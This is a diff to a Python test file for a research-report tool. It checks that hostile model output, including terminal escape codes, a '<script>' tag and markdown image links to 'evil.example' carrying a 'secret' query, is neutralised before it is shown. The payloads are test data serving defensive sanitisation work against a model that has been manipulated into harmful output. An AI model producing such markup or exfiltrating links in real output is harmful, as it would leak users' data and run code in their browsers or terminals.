@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 
+from deep_research.events import ReportPiece
 from tests.model.harness import PLAN, assert_presentable, research, served
 from tests.support.scripted_replies import Call, Reply, Request
 from tests.support.scripted_researcher import ScriptedResearcher, step_of
@@ -23,7 +24,6 @@ ESCAPES = (
 )  # fmt: skip
 """Titles, links, clipboards and files of terminals, colours and movements, device strings, and what does not show."""
 EVIL = "".join(ESCAPES)
-CLAIM = "FAKECLAIM the engine turns at 99,999 rpm [s1p1][s77p7]"
 _RAW = re.compile(
     "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2060\ufeff\u202a-\u202e\u2066-\u2069\U000e0041]|\\\\u00(?:1b|07|9b)|\\\\u202e|PWNED"
 )
@@ -61,7 +61,7 @@ def test_terminal_codes_of_a_model_are_nowhere(tmp_path: Path, monkeypatch: pyte
         return EVIL + text + EVIL
 
     def evil(_step: str, reply: Reply) -> Reply:
-        return replace(reply, data=_everywhere(reply.data, spoil))
+        return replace(reply, data=_everywhere(reply.data, spoil), text=_everywhere(reply.text, spoil))
 
     with served(monkeypatch, _Changed(evil)):
         ran = research(tmp_path)
@@ -69,27 +69,36 @@ def test_terminal_codes_of_a_model_are_nowhere(tmp_path: Path, monkeypatch: pyte
     assert ran.report.answered
     assert len(texts) * len(ESCAPES) > 2_500
     assert _RAW.search(_shown(tmp_path / "home")) is None
-    assert not any(_RAW.search(event.model_dump_json()) for event in ran.events)
+    told = [event.model_dump_json() for event in ran.events if not isinstance(event, ReportPiece)]
+    # Of a code that two pieces of a stream share, its harmless letters may be left.
+    told += [event.text.replace("PWNED", "") for event in ran.of(ReportPiece)]
+    assert not any(_RAW.search(text) for text in told)
 
 
-def test_a_claim_in_a_title_or_heading_is_not_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_model_that_was_talked_into_harm_brings_no_link_and_no_markup_that_acts(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    evil = (
+        '<script>alert(1)</script> ![x](https://evil.example/?q=secret) <img src="https://evil.example/p.gif"> [s1p1]'
+    )
+
     def lying(step: str, reply: Reply) -> Reply:
         if step == "plan":
-            sections = [{**row, "title": f"{row['title']}: {CLAIM}"} for row in reply.data["sections"]]  # type: ignore[index]
-            sections.append({**sections[0], "title": CLAIM})
-            return replace(reply, data={**reply.data, "title": CLAIM, "sections": sections})  # type: ignore[dict-item]
-        if step == "write_section":
-            content = f"### {CLAIM}\n\n{reply.data['content']}\n\n#### Plain words\n\n{reply.data['content']}"  # type: ignore[index]
-            return replace(reply, data={**reply.data, "content": content})  # type: ignore[dict-item]
+            sections = [{**row, "title": f"{row['title']} {evil}"} for row in reply.data["sections"]]  # type: ignore[index]
+            return replace(reply, data={**reply.data, "title": evil, "sections": sections})  # type: ignore[dict-item]
+        if step == "write":
+            return replace(reply, text=f"{reply.text}\n\n{evil}\n\n## {evil}\n\n- {evil}")
+        if step == "revise":
+            edits = [{**edit, "new": evil} for edit in reply.data["edits"]]  # type: ignore[index]
+            return replace(reply, data={**reply.data, "edits": edits})  # type: ignore[dict-item]
         return reply
 
     with served(monkeypatch, _Changed(lying)):
-        ran = research(tmp_path)
-    assert "99,999" not in ran.report.report
-    assert "s77p7" not in ran.report.report
-    assert "FAKECLAIM" not in ran.report.report
-    assert ran.report.title == "Which kinds of engines are there, and how do they differ?"
-    assert {"Alpha engine", "Beta engine", "Gamma engine"} <= {section.title for section in ran.report.sections}
+        report = research(tmp_path).report
+    assert report.edits
+    for shown in (report.report, report.title):
+        assert not re.search(r"(?<![`\\])<(?:script|img)", shown)
+        assert not re.search(r"(?<!\\)\]\(https", shown)
 
 
 @pytest.mark.parametrize(
